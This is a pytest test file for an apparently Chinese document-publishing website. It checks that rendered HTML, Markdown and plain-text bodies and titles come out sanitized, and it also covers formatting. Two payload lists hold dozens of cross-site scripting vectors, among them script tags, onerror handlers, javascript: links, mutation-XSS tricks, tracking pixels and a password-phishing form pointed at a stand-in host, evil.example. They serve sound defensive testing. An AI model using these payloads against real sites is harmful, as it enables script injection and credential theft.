"""An approved body is shown as it is, and nothing in it can act, fetch or disguise."""

from __future__ import annotations

from html import unescape
from typing import TYPE_CHECKING

import pytest

from tests.website.shelf import IDENTITY, Page, Shelf, item, put_online
from workflow.channels.content import to_html
from workflow.channels.website import Website
from workflow.revisions import BodyFormat

if TYPE_CHECKING:
    from pathlib import Path

FILES = {
    "附图 1.png": ("attachments/aa/%E9%99%84%E5%9B%BE_1.png", "image/png"),
    "说明.svg": ("attachments/bb/%E8%AF%B4%E6%98%8E_svg.txt", "image/svg+xml"),
    "表.xlsx": ("attachments/cc/%E8%A1%A8.xlsx", "application/vnd.ms-excel"),
}
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="https://evil.example/x.png 1x" src="附图 1.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="../../../index.html">x</a>',
    '<a href="https://ok.example/" target="_blank" onclick="alert(1)" ping="//evil.example">x</a>',
    "<iframe src=https://evil.example></iframe>",
    '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
    '<div style="position:fixed;background:url(https://evil.example/x)">x</div>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<svg onload=alert(1)><script>alert(1)</script><a href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
    "<video src=https://evil.example/x.mp4 autoplay></video><audio src=//evil.example/x></audio>",
    "<textarea></textarea><title></title><template><img src=x onerror=alert(1)></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "</div></article></main><h1>冒充的标题</h1>",
    '<p id="content" class="notice" name="x" tabindex="1" accesskey="x">x</p>',
    "<plaintext>x",
    "<xmp><script>alert(1)</script></xmp>",
]
MARKDOWN_ATTACKS = [
    *ATTACKS,
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](附图)',
    "[x](https://ok.example/\"onmouseover='alert(1)')",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
]
ALLOWED = {
    "a": {"href", "rel"},
    "img": {"src", "alt"},
    "section": {"class", "tabindex", "aria-label"},
    "span": {"class"},
    "p": {"class"},
}


def _shown(body: str, body_format: BodyFormat = BodyFormat.MARKDOWN) -> str:
    return to_html(
        body,
        body_format,
        files=FILES,
        missing_image=lambda name: f"[{name}]",
        table_label="表格",
    )


def _page(html: str) -> Page:
    return Page(f"<html><main>{html}</main></html>\n")


@pytest.mark.parametrize(
    ("body", "body_format"),
    [(attack, BodyFormat.HTML) for attack in ATTACKS]
    + [(attack, BodyFormat.MARKDOWN) for attack in MARKDOWN_ATTACKS]
    + [(attack, BodyFormat.TEXT) for attack in MARKDOWN_ATTACKS],
)
def test_nothing_hostile_survives(body: str, body_format: BodyFormat) -> None:
    page = _page(_shown(f"前文\n\n{body}\n\n后文\n", body_format))
    for tag, attributes in page.elements[2:]:
        assert set(attributes) <= ALLOWED.get(tag, set()), (tag, attributes)
        assert tag not in {"script", "style", "iframe", "svg", "form", "input", "h1"}
    for link in page.all("a"):
        assert (link.get("href") or "https://").startswith("https://")
    assert {picture["src"] for picture in page.all("img")} <= {FILES["附图 1.png"][0]}
    assert "前文" in page.texts[1]


@pytest.mark.parametrize("body_format", BodyFormat)
def test_a_hostile_body_leaves_the_whole_page_sound(
    tmp_path: Path, body_format: BodyFormat
) -> None:
    one = item(1, body="\n\n".join(ATTACKS), body_format=body_format)
    site = Website(tmp_path, IDENTITY)
    put_online(site, Shelf(), one)
    page = Page(site.page(one.index_number).read_text(encoding="utf-8"))
    assert [one.content.title] == page.said("h1")
    assert not any(
        name.startswith("on") or name == "style"
        for _, attributes in page.elements
        for name in attributes
    )
    assert [] == page.all("script") + page.all("iframe") + page.all("form") + page.all("svg")


@pytest.mark.parametrize(
    "title",
    [
        '"><script>alert(1)</script>',
        "'引号' \"双引号\" &amp; <b>标记</b>",
        "{{ 7 * 7 }} {% raw %} {name}",
        "很长的题名" * 60,
        "W" * 300,
        "</title><img src=x onerror=alert(1)>",
    ],
)
def test_a_title_is_shown_to_the_letter_wherever_it_stands(tmp_path: Path, title: str) -> None:
    one = item(1, title=title, summary=title, keywords=(title[:50],), document_number=title[:100])
    site = Website(tmp_path, IDENTITY)
    put_online(site, Shelf(), one)
    page = Page(site.page(one.index_number).read_text(encoding="utf-8"))
    assert [title] == page.said("h1")
    assert (title, title, title[:50]) == tuple(
        page.meta()[name] for name in ("ArticleTitle", "Description", "Keywords")
    )
    assert f"{title} - {IDENTITY.name}" == page.said("title")[0]
    for path in ("index.html", "departments/SAMPLE-02/2017-02/index.html"):
        index = Page((tmp_path / path).read_text(encoding="utf-8"))
        assert [] == index.all("script") + index.all("img") + index.all("b")
        assert title in index.said("a", href=index_link(path))


def index_link(path: str) -> str:
    """Return how the page at ``path`` links the item that these tests publish."""
    return "../" * path.count("/") + "items/SAMPLE-02/2017-00001/index.html"


def test_plain_text_keeps_its_paragraphs_and_its_lines() -> None:
    body = "\n　　第一段 <b>。\n \n\n第二段第一行\n  缩进   三格\n\n\n第三段\r\n"
    expected = (
        '<p>第一段 &lt;b&gt;。</p>\n<p class="lines">第二段第一行\n  缩进   三格</p>\n<p>第三段</p>'
    )
    assert expected == _shown(body, BodyFormat.TEXT)


def test_markdown_shows_tables_lists_and_emphasis() -> None:
    html = _shown("| 项 | 数 |\n|:--|--:|\n| 甲 | 1 |\n\n1. 一\n2. **二**\n")
    page = _page(html)
    assert ["甲", "1"] == page.said("td")
    assert ["start", "end"] == [cell["class"] for cell in page.all("td")]
    assert (["一", "二"], ["二"]) == (page.said("li"), page.said("strong"))
    assert {"class": "scroll", "tabindex": "0", "aria-label": "表格"} == page.all("section")[0]


def test_lines_of_chinese_join_without_a_space_and_lines_of_english_with_one() -> None:
    assert "<p>第一行第二行</p>" == _shown("第一行\n第二行")
    assert "<p>one\ntwo</p>" == _shown("one\ntwo")
    assert "<p>第一行\ntwo</p>" == _shown("第一行\ntwo")
    assert "<p><em>甲</em>\n乙</p>" == _shown("*甲*\n乙")


def test_markdown_treats_html_as_text() -> None:
    assert "<p>一&lt;b&gt;二&lt;/b&gt;</p>" == _shown("一<b>二</b>")


@pytest.mark.parametrize(
    ("levels", "expected"),
    [
        ((1, 2, 3, 2, 1), (2, 3, 4, 3, 2)),
        ((3, 5, 4, 1, 6), (2, 3, 3, 2, 3)),
        ((1, 2, 3, 4, 5, 6), (2, 3, 4, 5, 6, 6)),
        ((4, 4, 2), (2, 2, 2)),
    ],
)
def test_headings_are_put_in_order_below_the_title(
    levels: tuple[int, ...], expected: tuple[int, ...]
) -> None:
    body = "".join(f"<h{level}>题 {level}</h{level}>" for level in levels)
    page = _page(_shown(body, BodyFormat.HTML))
    assert expected == tuple(int(tag[1]) for tag, _ in page.elements[2:])
    assert [f"题 {level}" for level in levels] == [page.texts[2 + at] for at in range(len(levels))]


def test_a_picture_is_shown_from_the_attachments_only() -> None:
    html = _shown(
        "![图一](<附图 1.png>) ![图二](./附图%201.png) ![图三](表.xlsx) ![图四](说明.svg)"
    )
    page = _page(html)
    assert [FILES["附图 1.png"][0]] * 2 == [picture["src"] for picture in page.all("img")]
    assert ["[图三]", "[图四]"] == page.said("span", **{"class": "missing"})


def test_the_name_of_a_missing_picture_cannot_be_markup() -> None:
    html = _shown('<img alt="&lt;script&gt;&quot; src=&quot;x">', BodyFormat.HTML)
    assert '<span class="missing">[&lt;script&gt;&quot; src=&quot;x]</span>' == html


def test_a_link_may_name_an_attachment_or_a_full_address() -> None:
    page = _page(
        _shown("[表](表.xlsx) [外](https://www.example.org/甲?b=1&c=2) [邮](mailto:a@b.c)")
    )
    expected = [FILES["表.xlsx"][0], "https://www.example.org/%E7%94%B2?b=1&c=2", "mailto:a@b.c"]
    assert expected == [link["href"] for link in page.all("a")]
    assert {"noopener nofollow"} == {link["rel"] for link in page.all("a")}


def test_a_whole_document_in_html_shows_its_text_without_its_head() -> None:
    body = (
        "<!DOCTYPE html><html><head><title>窗口标题</title><style>p{}</style></head>"
        '<body bgcolor="red"><center><font color="red">正文</font></center>'
        '<table border="1" onclick="x"><tr><td colspan="2" rowspan="x">格</td></tr></table>'
        "</body></html>"
    )
    html = _shown(body, BodyFormat.HTML)
    assert "正文" in html
    assert "窗口标题" not in html
    assert [{"colspan": "2"}] == _page(html).all("td")


def test_only_the_outermost_table_scrolls() -> None:
    inner = "<table><tr><td>内</td></tr></table>"
    body = f"<table><tr><td>{inner}</td></tr></table>{inner}"
    assert 2 == len(_page(_shown(body, BodyFormat.HTML)).all("section"))


@pytest.mark.parametrize("body_format", BodyFormat)
def test_every_visible_character_of_the_text_is_shown(body_format: BodyFormat) -> None:
    text = "〔2017〕12号 “引号” ①②③ — … 𠮷 龘 ℃ ½ & < > ' \" é"
    body = text.replace("<", "&lt;") if body_format is BodyFormat.HTML else text
    shown = unescape(_shown(body, body_format))
    assert shown in {f"<p>{text}</p>", text}
